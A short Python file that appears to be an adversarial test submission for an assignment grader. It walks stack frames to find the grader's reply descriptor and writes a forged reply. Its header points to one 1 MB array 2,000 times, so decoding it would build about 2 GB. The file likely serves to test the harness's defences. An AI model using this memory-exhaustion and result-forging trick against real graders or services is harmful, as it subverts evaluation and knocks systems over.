# @@include assignments/q1_expressivity.py
# Attack: a 1 MB reply whose header refers to its one 1 MB array 2,000 times, so that decoding it would build 2 GB
# (16 MB of header could refer to it 600,000 times).
import json as _json
import os as _os
import struct as _struct
import sys as _sys

import numpy as _np

import protocol as _protocol


def _reply_fd():
    frame = _sys._getframe()
    while frame is not None:
        if "reply_fd" in frame.f_locals:
            return frame.f_locals["reply_fd"]
        frame = frame.f_back


_blob = _protocol.encode(_np.zeros(1 << 17))
_blob = _blob[len(_protocol.MAGIC) + 8 + _struct.unpack_from("<Q", _blob, len(_protocol.MAGIC))[0]:]
_ref = {"$npy": [0, len(_blob)]}
_calls = _json.loads(open(_sys.argv[1] + "/request.json").read())["calls"]
_tree = {"import": {"ok": True}, "calls": {c["id"]: {"ok": True, "value": 0} for c in _calls}}
_tree["calls"][_calls[0]["id"]]["value"] = [_ref] * 2000
_header = _json.dumps(_tree).encode()
_os.write(_reply_fd(), _protocol.MAGIC + _struct.pack("<Q", len(_header)) + _header + _blob)
_os._exit(0)
